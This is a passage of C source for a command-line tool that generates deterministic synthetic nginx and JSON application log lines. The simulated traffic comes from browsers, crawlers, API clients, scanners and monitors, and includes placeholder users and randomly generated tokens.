            if (bt->v6[0] == 0x2a03) { /* Facebook: ...::face:b00c */
                g[6] = 0xface;
                g[7] = 0xb00c;
            }
            sb_ipv6(&b, g);
        } else {
            unsigned c3 = bt->c + rnd(bt->cspan);
            sb_ipv4(&b, bt->a, bt->b, c3, 1 + rnd(254));
        }
        s->c.alen = (uint8_t)b.n;
        s->c.type = C_BOT;
        s->c.ua = bi;
        s->left = 1 + (int)rnd(20);
    } else if (k < 91) {
        s->c = apis[rnd_skewed(N_APIS)];
        s->left = 1 + (int)rnd(40);
    } else if (k < 96) {
        s->c = scanners[rnd_skewed(N_SCANNERS)];
        s->left = 3 + (int)rnd(40);
    } else {
        s->c = monitors[rnd(N_MONITORS)];
        s->left = 1;
    }
    /* About 3% of lines arrive through a load balancer. */
    if (s->c.type != C_MONITOR && chance(30)) {
        s->via_lb = 1;
        s->lb = lbs[rnd(COUNT(lbs))];
    }
    if (s->c.type == C_BROWSER && chance(550)) {
        struct sb b = {s->ref, 0};
        if (chance(30)) {
            sb_str(&b, "http://");
            sb_str(&b, site_ip);
            sb_chr(&b, '/');
        } else if (chance(60)) {
            sb_str(&b, "https://t.co/");
            sb_alnum(&b, 10);
        } else {
            sb_str(&b, ext_referrers[rnd(COUNT(ext_referrers))]);
        }
        s->ref_len = b.n;
    }
}

/* ---- JSON mode -------------------------------------------------------------- */

static int json_mode;

/* s[0, n) as a JSON string body: '"', '\\' and control bytes escaped, '/'
 * too when `slash` (PHP style). */
static void sb_json(struct sb *b, const char *s, size_t n, int slash)
{
    for (size_t i = 0; i < n; i++) {
        unsigned char c = (unsigned char)s[i];
        if (c == '"' || c == '\\' || (slash && c == '/')) {
            sb_chr(b, '\\');
            sb_chr(b, (char)c);
        } else if (c < 0x20) {
            sb_str(b, "\\u00");
            sb_chr(b, hexdig[c >> 4]);
            sb_chr(b, hexdig[c & 15]);
        } else {
            sb_chr(b, (char)c);
        }
    }
}

static void sb_jkey(struct sb *b, const char *key)
{
    sb_chr(b, ',');
    sb_chr(b, '"');
    sb_str(b, key);
    sb_str(b, "\":");
}

static void sb_jstr(struct sb *b, const char *key, const char *s, size_t n, int slash)
{
    sb_jkey(b, key);
    sb_chr(b, '"');
    sb_json(b, s, n, slash);
    sb_chr(b, '"');
}

/* People who log in: their names (some with non-ASCII letters, written
 * as escapes by the Python service and raw by the PHP one) and mail
 * domains. */
static const struct {
    const char *ascii, *utf8, *u_escaped;
} people[] = {
    {"anna", "Anna Schmidt", "Anna Schmidt"},
    {"jose", "José García", "Jos\\u00e9 Garc\\u00eda"},
    {"joerg", "Jörg Müller", "J\\u00f6rg M\\u00fcller"},
    {"lea", "Léa Dubois", "L\\u00e9a Dubois"},
    {"tom", "Tom Baker", "Tom Baker"},
    {"zoe", "Zoë Clark", "Zo\\u00eb Clark"},
    {"mehmet", "Mehmet Yılmaz", "Mehmet Y\\u0131lmaz"},
    {"sven", "Sven Ødegaard", "Sven \\u00d8degaard"},
};
static const char *const mail_domains[] = {"example.com", "mail.example.net", "example.de",
                                           "posteo.example", "web.example.org"};
static const char *const loggers[] = {"http", "app.checkout", "app.auth", "app.search",
                                      "app.api"};

/* The timestamp "2026-11-23T06:25:00.123Z" of Unix millisecond ms. */
static void sb_iso_ms(struct sb *b, int64_t ms)
{
    int64_t t = ms / 1000, y;
    unsigned sod = (unsigned)(t % 86400), m, d;
    civil_from_days(t / 86400, &y, &m, &d);
    sb_uint(b, (uint64_t)y);
    sb_chr(b, '-');
    sb_2d(b, m);
    sb_chr(b, '-');
    sb_2d(b, d);
    sb_chr(b, 'T');
    sb_2d(b, sod / 3600);
    sb_chr(b, ':');
    sb_2d(b, sod / 60 % 60);
    sb_chr(b, ':');
    sb_2d(b, sod % 60);
    sb_chr(b, '.');
    sb_chr(b, (char)('0' + ms % 1000 / 100));
    sb_2d(b, (unsigned)(ms % 100));
    sb_chr(b, 'Z');
}

static int64_t now_ms;

/* One request as the application logs it: the facts emit_line worked out
 * (request line parts, status, size, referrer, user agent, client) and a
 * few things only the application knows. */
static void emit_json(struct sb *o, struct session *s, const char *method, const char *path,
                      size_t path_len, const char *proto, unsigned status, unsigned size,
                      const char *ref, size_t ref_len, const char *ua, int raw_request)
{
    /* The API clients talk to the PHP service, the rest to the Python one. */
    int php = s->c.type == C_API;
    int err = status >= 500 || (status == 401 && chance(500));
    sb_str(o, "{\"ts\":\"");
    sb_iso_ms(o, now_ms);
    sb_str(o, "\",\"level\":\"");
    sb_str(o, err ? "error" : status >= 400 ? "warning" : "info");
    sb_chr(o, '"');
    const char *lg = loggers[rnd(COUNT(loggers))];
    sb_jstr(o, "logger", lg, strlen(lg), 0);
    sb_jkey(o, "msg");
    sb_chr(o, '"');
    if (raw_request) {
        sb_str(o, "bad request");
    } else {
        sb_str(o, method);
        sb_chr(o, ' ');
        sb_json(o, path, path_len > 80 ? 80 : path_len, php);
        sb_chr(o, ' ');
        sb_uint(o, status);
    }
    sb_chr(o, '"');
    sb_jstr(o, "remote_addr", s->via_lb ? s->lb : s->c.addr,
            s->via_lb ? strlen(s->lb) : s->c.alen, 0);
    if (s->via_lb) {
        /* The hops the balancer saw, as an array. */
        sb_jkey(o, "forwarded_for");
        sb_str(o, "[\"");
        sb_mem(o, s->c.addr, s->c.alen);
        sb_str(o, "\",\"");
        sb_str(o, s->lb);
        sb_str(o, "\"]");
    }
    if (!raw_request) {
        sb_jstr(o, "method", method, strlen(method), 0);
        sb_jstr(o, "path", path, path_len, php);
        sb_jstr(o, "protocol", proto, strlen(proto), php);
    }
    sb_jkey(o, "status");
    sb_uint(o, status);
    sb_jkey(o, "bytes");
    sb_uint(o, size);
    sb_jkey(o, "duration_ms");
    sb_uint(o, rnd(900));
    sb_chr(o, '.');
    sb_uint(o, 100 + rnd(900));
    sb_jstr(o, "referrer", ref, ref_len, php);
    sb_jstr(o, "user_agent", ua, strlen(ua), php);
    sb_jkey(o, "request_id");
    sb_chr(o, '"');
    sb_randhex(o, 16);
    sb_randhex(o, 16);
    sb_chr(o, '"');
    if (s->c.type == C_BROWSER && chance(250)) {
        /* A logged-in user: id, e-mail address, name, and the session. */
        unsigned k = rnd(COUNT(people));
        sb_jkey(o, "user");
        sb_str(o, "{\"id\":");
        sb_uint(o, 1000 + (uint64_t)(s->c.addr[0] * 977 + s->c.alen * 31 + k) % 90000);
        sb_str(o, ",\"email\":\"");
        sb_str(o, people[k].ascii);
        sb_chr(o, '.');
        sb_alnum(o, 3);
        sb_chr(o, '@');
        sb_str(o, mail_domains[rnd(COUNT(mail_domains))]);
        sb_str(o, "\",\"name\":\"");
        sb_str(o, php ? people[k].utf8 : people[k].u_escaped);
        sb_str(o, "\",\"admin\":");
        sb_str(o, chance(50) ? "true" : "false");
        sb_chr(o, '}');
        sb_jkey(o, "session");
        sb_chr(o, '"');
        sb_alnum(o, 26);
        sb_chr(o, '"');
    }
    if (s->c.type == C_API && chance(300)) {
        /* The request headers, credentials included. */
        sb_jkey(o, "headers");
        sb_str(o, "{\"Authorization\":\"Bearer eyJhbGciOiJIUzI1NiJ9.");
        sb_alnum(o, 24);
        sb_chr(o, '.');
        sb_alnum(o, 22);
        sb_str(o, "\",\"Accept\":\"application\\/json\",\"X-Api-Key\":\"");
        sb_alnum(o, 32);
        sb_str(o, "\"}");
    }
    if (err) {
        /* An error, with the client in its message (people log them so). */
        sb_jkey(o, "error");
        sb_str(o, "{\"type\":\"");
        sb_str(o, status == 401 ? "AuthenticationFailed" : "UpstreamTimeout");
        sb_str(o, "\",\"message\":\"");
        if (status == 401) {
            sb_str(o, "login failed for ");
            sb_str(o, people[rnd(COUNT(people))].ascii);
            sb_str(o, "@example.com from ");
        } else {
            sb_str(o, "upstream 10.0.3.");
            sb_uint(o, 1 + rnd(200));
            sb_str(o, ":8080 timed out for client ");
        }
        sb_mem(o, s->c.addr, s->c.alen);
        sb_str(o, "\",\"retry\":");
        sb_str(o, chance(500) ? "true" : "false");
        sb_str(o, ",\"trace\":[\"app");
        sb_str(o, php ? "\\/src\\/Http\\/Kernel.php:142" : "/handlers.py:88");
        sb_str(o, "\",\"app");
        sb_str(o, php ? "\\/src\\/Controller.php:57" : "/views.py:213");
        sb_str(o, "\"]}");
    }
    sb_str(o, "}\n");
}

/* ---- one line ------------------------------------------------------------- */

/* Longest line emit_line can produce is well under this (UA <= 220, URL <=
 * 320, referrer <= 340, addresses and fixed parts < 200; in JSON mode URL
 * and referrer twice, each '/' escaped, and the user, headers and error
 * objects < 600). */
enum { LINE_ROOM = 4096, OBUF_SIZE = 1 << 20 };
static char obuf[OBUF_SIZE];

static unsigned body_size(unsigned base, unsigned spread)
{
    return base + rnd(spread);
}

static void emit_line(struct sb *o, struct session *s)
{
    char path[400];
    struct sb p = {path, 0};
    const char *method = "GET";
    const char *proto = "HTTP/1.1";
    const char *ua;
    unsigned status = 200, size = 0;
    int ref_mode = 0; /* 0 "-", 1 external/landing referrer, 2 current page, 3 literal */
    const char *ref_lit = NULL;
    char ref_buf[96];
    int raw_request = 0; /* request is a literal without method/protocol */
    int new_page = 0;    /* the request becomes the session's current page */

    switch ((enum ctype)s->c.type) {
    case C_BROWSER:
        ua = ua_browser[s->c.ua];
        proto = chance(780) ? "HTTP/2.0" : "HTTP/1.1";
        if (s->seq == 0 || s->page_len == 0 || chance(220)) {
            /* navigation to a page */
            sb_page(&p);
            if (chance(15)) { /* login form post */
                p.n = 0;
                sb_str(&p, "/login");
                method = "POST";
                status = chance(800) ? 302 : 200;
                size = status == 302 ? 0 : body_size(9000, 400);
            } else {
                unsigned r = rnd(1000);
                status = r < 890 ? 200 : r < 930 ? 304 : r < 950 ? 301 : r < 985 ? 404 : r < 992 ? 499 : 500;
                size = status == 200 ? body_size(8000, 70000)
                     : status == 301 ? 162
                     : status == 404 ? 3721
                     : status == 500 ? 177 : 0;
            }
            if (s->seq == 0)
                ref_mode = s->ref_len ? 1 : 0;
            else
                ref_mode = 2;
            new_page = 1;
        } else {
            /* an asset of the current page */
            unsigned a = rnd(N_ASSETS);
            if (chance(250)) {
                sb_str(&p, "/media/catalog/");
                sb_uint(&p, 10000 + rnd(90000));
                sb_str(&p, chance(500) ? "-800w.webp" : "-400w.webp");
                size = body_size(12000, 90000);
            } else {
                sb_mem(&p, assets[a], asset_len[a]);
                size = asset_size[a];
            }
            unsigned r = rnd(1000);
            status = r < 700 ? 200 : r < 985 ? 304 : r < 990 ? 206 : 404;
            if (status == 304)
                size = 0;
            else if (status == 404)
                size = 153;
            else if (status == 206)
                size = rnd(size) + 1;
            ref_mode = 2;
        }
        break;
    case C_BOT:
        ua = bots[s->c.ua].ua;
        if (s->seq == 0 && chance(300))
            sb_str(&p, "/robots.txt");
        else if (chance(60)) {
            sb_str(&p, "/sitemap-products-");
            sb_uint(&p, 1 + rnd(9));
            sb_str(&p, ".xml");
        } else
            sb_page(&p);
        {
            unsigned r = rnd(1000);
            status = r < 850 ? 200 : r < 900 ? 304 : r < 940 ? 301 : 404;
            size = status == 200 ? body_size(3000, 60000) : status == 301 ? 162 : status == 404 ? 3721 : 0;
        }
        break;
    case C_API:
        ua = ua_api[s->c.ua];
        proto = chance(500) ? "HTTP/2.0" : "HTTP/1.1";
        if (chance(12)) { /* geo lookup with the address in the query */
            sb_str(&p, "/api/v1/geoip?ip=");
            sb_public_ipv4(&p);
            if (chance(300)) {
                sb_str(&p, "&fallback=");
                sb_client_ipv6(&p);
            }
        } else {
            sb_api_path(&p, &method);
        }
        {
            unsigned r = rnd(1000);
            if (method[0] == 'P' && method[1] == 'O')
                status = r < 800 ? 201 : r < 900 ? 200 : r < 950 ? 400 : r < 980 ? 422 : 500;
            else if (method[0] == 'D')
                status = 204;
            else if (method[0] == 'O')
                status = 204;
            else
                status = r < 900 ? 200 : r < 930 ? 304 : r < 950 ? 401 : r < 965 ? 403 : r < 980 ? 404 : r < 990 ? 429 : r < 995 ? 502 : 503;
            size = (status == 200 || status == 201) ? body_size(60, 6000)
                 : status == 204 || status == 304 ? 0 : body_size(40, 120);
        }
        break;
    case C_SCANNER:
        ua = ua_scanner[s->c.ua];
        proto = chance(150) ? "HTTP/1.0" : "HTTP/1.1";
        {
            unsigned r = rnd(1000);
            if (r < 40) { /* open-proxy probe */
                method = chance(500) ? "CONNECT" : "GET";
                if (method[0] == 'C') {
                    sb_public_ipv4(&p);
                    sb_str(&p, ":443");
                } else {
                    sb_str(&p, "http://");
                    sb_public_ipv4(&p);
                    sb_str(&p, ":80/");
                }
                status = 400;
                size = 157;
            } else if (r < 60) { /* TLS handshake sent to the plain-HTTP port */
                raw_request = 1;
                sb_str(&p, "\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03");
                for (int i = 0; i < 8; i++) {
                    sb_str(&p, "\\x");
                    sb_chr(&p, "0123456789ABCDEF"[rnd(16)]);
                    sb_chr(&p, "0123456789ABCDEF"[rnd(16)]);
                }
                status = 400;
                size = 157;
            } else if (r < 75) { /* connection closed before a request */
                raw_request = 1;
                sb_chr(&p, '-');
                status = 400;
                size = 0;
            } else if (r < 90) {
                sb_str(&p, "http://");
                sb_str(&p, site_ip);
                sb_chr(&p, '/');
                status = 200;
                size = 612;
            } else {
                sb_str(&p, probe_paths[rnd(COUNT(probe_paths))]);
                if (chance(100))
                    method = "POST";
                unsigned q = rnd(1000);
                status = q < 900 ? 404 : q < 950 ? 403 : q < 980 ? 301 : 200;
                size = status == 404 ? 3721 : status == 403 ? 153 : status == 301 ? 162 : 612;
            }
            if (!raw_request && chance(100)) {
                ref_mode = 3;
                struct sb rb = {ref_buf, 0};
                sb_str(&rb, "http://");
                sb_str(&rb, site_ip);
                sb_chr(&rb, '/');
                ref_buf[rb.n] = '\0';
                ref_lit = ref_buf;
            }
        }
        break;
    case C_MONITOR:
    default:
        ua = ua_monitor[s->c.ua];
        method = chance(300) ? "HEAD" : "GET";
        sb_str(&p, chance(500) ? "/healthz" : "/");
        status = chance(995) ? 200 : 503;
        size = method[0] == 'H' ? 0 : status == 503 ? 197 : 2;
        break;
    }

    if (json_mode) {
        char rb[600];
        struct sb r = {rb, 0};
        switch (ref_mode) {
        case 1: sb_mem(&r, s->ref, s->ref_len); break;
        case 2: sb_str(&r, SITE); sb_mem(&r, s->page, s->page_len); break;
        case 3: sb_str(&r, ref_lit); break;
        default: sb_chr(&r, '-');
        }
        emit_json(o, s, method, path, p.n, proto, status, size, rb, r.n, ua, raw_request);
        goto page;
    }

    /* $remote_addr - $remote_user [$time_local] */
    if (s->via_lb)
        sb_str(o, s->lb);
    else
        sb_mem(o, s->c.addr, s->c.alen);
    if (s->c.type == C_API && chance(20))
        sb_str(o, chance(500) ? " - deploy " : " - admin ");
    else
        sb_mem(o, " - - ", 5);
    sb_mem(o, stamp, stamp_len);

    /* "$request" $status $body_bytes_sent */
    sb_mem(o, " \"", 2);
    if (!raw_request) {
        sb_str(o, method);
        sb_chr(o, ' ');
    }
    sb_mem(o, path, p.n);
    if (!raw_request) {
        sb_chr(o, ' ');
        sb_str(o, proto);
    }
    sb_mem(o, "\" ", 2);
    sb_uint(o, status);
    sb_chr(o, ' ');
    sb_uint(o, size);

    /* "$http_referer" "$http_user_agent" */
    sb_mem(o, " \"", 2);
    switch (ref_mode) {
    case 1:
        sb_mem(o, s->ref, s->ref_len);
        break;
    case 2:
        sb_str(o, SITE);
        sb_mem(o, s->page, s->page_len);
        break;
    case 3:
        sb_str(o, ref_lit);
        break;
    default:
        sb_chr(o, '-');
    }
    sb_mem(o, "\" \"", 3);
    sb_str(o, ua);
    sb_chr(o, '"');

    /* Behind a load balancer: log_format combined_xff adds
     * "$http_x_forwarded_for" - the client, sometimes a CDN hop, and from
     * some balancers the client's source port. */
    if (s->via_lb) {
        sb_mem(o, " \"", 2);
        sb_mem(o, s->c.addr, s->c.alen);
        if (s->c.addr[0] != ':' && memchr(s->c.addr, ':', s->c.alen) == NULL && chance(100)) {
            sb_chr(o, ':');
            sb_uint(o, 1024 + rnd(64000));
        }
        if (chance(300)) {
            sb_mem(o, ", ", 2);
            sb_public_ipv4(o);
        }
        sb_chr(o, '"');
    }
    sb_chr(o, '\n');

page:
    if (new_page && p.n < sizeof s->page) {
        memcpy(s->page, path, p.n);
        s->page_len = p.n;
    }
}

/* ---- main --------------------------------------------------------------- */

static void usage(FILE *f)
{
    fputs("usage: gen-log [-n LINES] [-s SEED] [--json]\n"
          "Write LINES (default 1000000) deterministic nginx combined log lines to stdout,\n"
          "or with --json the JSON lines of the application behind that nginx.\n",
          f);
}

/* Parse a non-negative decimal number; exit 64 (usage) when it is not one. */
static uint64_t parse_num(const char *opt, const char *s)
{
    char *end;
    if (s == NULL || *s < '0' || *s > '9') {
        fprintf(stderr, "gen-log: %s needs a number\n", opt);
        exit(64);
    }
    errno = 0;
    unsigned long long v = strtoull(s, &end, 10);
    if (errno || *end != '\0') {
        fprintf(stderr, "gen-log: bad number for %s: %s\n", opt, s);
        exit(64);
    }
    return (uint64_t)v;
}

static void write_out(const char *buf, size_t n)
{
    if (n && fwrite(buf, 1, n, stdout) != n) {
        perror("gen-log: write");
        exit(74);
    }
}

int main(int argc, char **argv)
{
    uint64_t lines = 1000000, seed = 1;

    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        if (strcmp(a, "-h") == 0 || strcmp(a, "--help") == 0) {
            usage(stdout);
            return 0;
        } else if (strcmp(a, "--json") == 0) {
            json_mode = 1;
        } else if (a[0] == '-' && (a[1] == 'n' || a[1] == 's')) {
            /* "-n 100" or "-n100" */
            const char *val = a[2] ? a + 2 : i + 1 < argc ? argv[++i] : NULL;
            if (a[1] == 'n')
                lines = parse_num("-n", val);
            else
                seed = parse_num("-s", val);
        } else {
            usage(stderr);
            return 64;
        }
    }

    rng_state = seed * 0x2545f4914f6cdd1dULL + 0x1234567;
    for (size_t i = 0; i < COUNT(bots); i++)
        bot_w[i] = bots[i].weight;
    init_assets();
    init_clients();
    for (int i = 0; i < N_SESSIONS; i++)
        new_session(&sessions[i]);

    /* 2026-11-23 06:25:00 UTC, then 0-40 ms per line. */
    int64_t ms = (days_from_civil(2026, 11, 23) * 86400 + 6 * 3600 + 25 * 60) * 1000;
    struct sb o = {obuf, 0};

    for (uint64_t n = 0; n < lines; n++) {
        ms += rnd(41);
        update_stamp(ms / 1000);
        now_ms = ms;
        struct session *s = &sessions[rnd(N_SESSIONS)];
        if (s->left <= 0)
            new_session(s);
        emit_line(&o, s);
        s->left--;
        s->seq++;
        if (o.n > OBUF_SIZE - LINE_ROOM) {
            write_out(obuf, o.n);
            o.n = 0;
        }
    }
    write_out(obuf, o.n);
    if (fflush(stdout) != 0) {
        perror("gen-log: write");
        return 74;
    }
    return 0;
}
